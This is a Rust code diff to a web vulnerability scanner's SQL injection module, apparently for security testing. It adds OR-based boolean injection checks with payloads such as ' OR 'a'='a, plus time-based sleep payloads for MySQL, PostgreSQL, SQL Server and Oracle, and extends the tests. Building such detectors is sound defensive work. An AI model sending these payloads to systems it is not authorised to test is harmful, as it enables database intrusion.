@@ -75,7 +75,10 @@ pub(crate) async fn attack(
     if ctx.already(KEY, r, Some(p)).await {
         return Ok(());
     }
-    if error_based(ctx, r, orig, p).await? || boolean_based(ctx, r, orig, p).await? {
+    if error_based(ctx, r, orig, p).await?
+        || boolean_based(ctx, r, orig, p).await?
+        || or_based(ctx, r, orig, p).await?
+    {
         return Ok(());
     }
     time_based(ctx, r, orig, p).await.map(|_| ())
@@ -217,20 +220,105 @@ async fn boolean_based(
     Ok(false)
 }
 
-fn sleepers(p: &InsertionPoint, d: u64) -> Vec<String> {
+/// Sleep payloads for a delay of `d` seconds (`2`, `0.25`). Uncorrelated subqueries come
+/// first: they run once per statement whatever the number of rows; the per-row forms after
+/// them are scaled down by [`super::common::timed`] when they multiply.
+/// OR condition pairs per context: (true, false).
+fn or_pairs(p: &InsertionPoint, a: u64, b: u64) -> Vec<(String, String)> {
     let numeric = !p.original.is_empty() && p.original.chars().all(|c| c.is_ascii_digit());
     let mut v = Vec::new();
     if numeric {
-        v.push(format!(" AND SLEEP({d})"));
+        v.push((format!(" OR {a}={a}"), format!(" OR {a}={b}")));
+    }
+    v.push((format!("' OR '{a}'='{a}"), format!("' OR '{a}'='{b}")));
+    v.push((format!("' OR {a}={a}-- -"), format!("' OR {a}={b}-- -")));
+    v.push((format!("\" OR \"{a}\"=\"{a}"), format!("\" OR \"{a}\"=\"{b}")));
+    v
+}
+
+/// Boolean pairs for inputs whose original value matches no row, where AND pairs give the
+/// same empty page twice: a false `OR` keeps the original page, a true `OR` matches every row
+/// and changes it, with a second independent pair agreeing. Only for GET requests: a true
+/// `OR` in a statement that writes would touch every row.
+async fn or_based(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<bool, SendError> {
+    if r.method != "GET" {
+        return Ok(false);
+    }
+    let again = ctx.send(orig.request.clone()).await?;
+    let base = orig.response.text();
+    let stable = similarity(&base, &again.response.text());
+    if stable < 0.95 {
+        return Ok(false);
+    }
+    let hi = stable.min(0.98);
+    let margin = (3.0 * (1.0 - stable)).max(0.02);
+    let base: &str = &base;
+    let (a1, b1) = (super::common::num(100, 999), super::common::num(100, 999));
+    let (a2, b2) = (super::common::num(1000, 9999), super::common::num(1000, 9999));
+    if a1 == b1 || a2 == b2 {
+        return Ok(false);
+    }
+    // (true page, false page) of one pair: the false one is the original page, the true
+    // one clearly is not.
+    let pair = |t: String, f: String| async move {
+        let (tv, fv) = (after(p, &t), after(p, &f));
+        let fs = inject(ctx, r, p, &fv).await?;
+        let ft = strip(&fs.response.text(), &[&fv]);
+        if fs.response.status != orig.response.status || similarity(base, &ft) < hi {
+            return Ok::<_, SendError>(None);
+        }
+        let ts = inject(ctx, r, p, &tv).await?;
+        let tt = strip(&ts.response.text(), &[&tv]);
+        let differs = ts.response.status == orig.response.status
+            && similarity(base, &tt) <= similarity(base, &ft) - margin;
+        Ok(differs.then_some((tv, tt, ts)))
+    };
+    for (i, (t1, f1)) in or_pairs(p, a1, b1).into_iter().enumerate() {
+        let Some((tv, tt, ts)) = pair(t1, f1).await? else {
+            continue;
+        };
+        let (t2, f2) = or_pairs(p, a2, b2).swap_remove(i);
+        let Some((tv2, tt2, _)) = pair(t2, f2).await? else {
+            continue;
+        };
+        // Both true pages are the same "every row" page, unlike the original.
+        if similarity(&tt, &tt2) > similarity(base, &tt2) {
+            ctx.report_point(r, Some(p), Hit {
+                module: KEY,
+                attack_id: "SQLI_02",
+                value: &tv,
+                proof: format!("false conditions return the original page; true conditions {tv:?} and {tv2:?} return another, the same twice"),
+                proof_description: "two independent OR true/false condition pairs change the page as a database would (the original value matches no row)",
+                confidence: Confidence::Firm,
+                original: Some(orig),
+                attack: Some(&ts),
+            })
+            .await;
+            return Ok(true);
+        }
+    }
+    Ok(false)
+}
+
+fn sleepers(p: &InsertionPoint, d: f64) -> Vec<String> {
+    let d = super::common::secs(d);
+    let numeric = !p.original.is_empty() && p.original.chars().all(|c| c.is_ascii_digit());
+    let mut v = Vec::new();
+    if numeric {
         v.push(format!(" OR (SELECT SLEEP({d}))=1"));
         v.push(format!(" AND 1=(SELECT 1 FROM PG_SLEEP({d}))"));
         v.push(format!(";WAITFOR DELAY '0:0:{d}'--"));
+        v.push(format!(" AND SLEEP({d})"));
     }
-    v.push(format!("' AND SLEEP({d})-- -"));
-    // An uncorrelated subquery runs once per statement, whether or not a row matches.
     v.push(format!("' OR (SELECT SLEEP({d}))=1 OR 'a'='b"));
     v.push(format!("' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -"));
     v.push(format!("';WAITFOR DELAY '0:0:{d}'-- -"));
+    v.push(format!("' AND SLEEP({d})-- -"));
     v.push(format!("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('r',{d})-- -"));
     v
 }
@@ -241,9 +329,9 @@ async fn time_based(
     orig: &Sent,
     p: &InsertionPoint,
 ) -> Result<bool, SendError> {
-    for i in 0..sleepers(p, 1).len() {
-        let build = |d: u64| after(p, &sleepers(p, d)[i]);
-        let Some(t) = super::common::timed(ctx, r, p, build).await? else {
+    for i in 0..sleepers(p, 1.0).len() {
+        let build = |d: f64| after(p, &sleepers(p, d)[i]);
+        let Some(t) = super::common::timed(ctx, r, p, true, build).await? else {
             continue;
         };
         ctx.report_point(
@@ -284,6 +372,7 @@ mod tests {
             ("sqlite near", "Error: near \"'\": syntax error", Some("SQLite")),
             ("mssql", "Microsoft OLE DB Provider for SQL Server error '80040e14' Unclosed quotation mark after the character string '1''.", Some("Microsoft SQL Server")),
             ("mssql .net", "System.Data.SqlClient.SqlException (0x80131904): Incorrect syntax near '1'.", Some("Microsoft SQL Server")),
+            ("java is not sql server", "java.sql.SQLException: Incorrect syntax in statement", Some("Java JDBC")),
             ("oracle", "ORA-01756: quoted string not properly terminated", Some("Oracle")),
             ("html-escaped error", "You have an error in your SQL syntax near &#39;1&#39;&#39;", Some("MySQL/MariaDB")),
             ("normal page mentioning SQL", "<h1>Learn SQL</h1><p>SQL syntax basics: SELECT, INSERT and errors you may see.</p>", None),
@@ -299,9 +388,12 @@ mod tests {
     fn numeric_points_get_numeric_pairs() {
         let mut p = crate::target::InsertionPoint::for_test("id", "42");
         assert_eq!(super::pairs(&p, 1, 2)[0].0, " AND 1=1");
-        assert!(super::sleepers(&p, 3)
+        assert!(super::sleepers(&p, 3.0)
             .iter()
             .any(|s| s.contains("SLEEP(3)")));
+        assert!(super::sleepers(&p, 0.25)
+            .iter()
+            .any(|s| s.contains("SLEEP(0.25)")));
         p.original = "abc".into();
         assert!(super::pairs(&p, 1, 2)[0].0.starts_with('\''));
     }
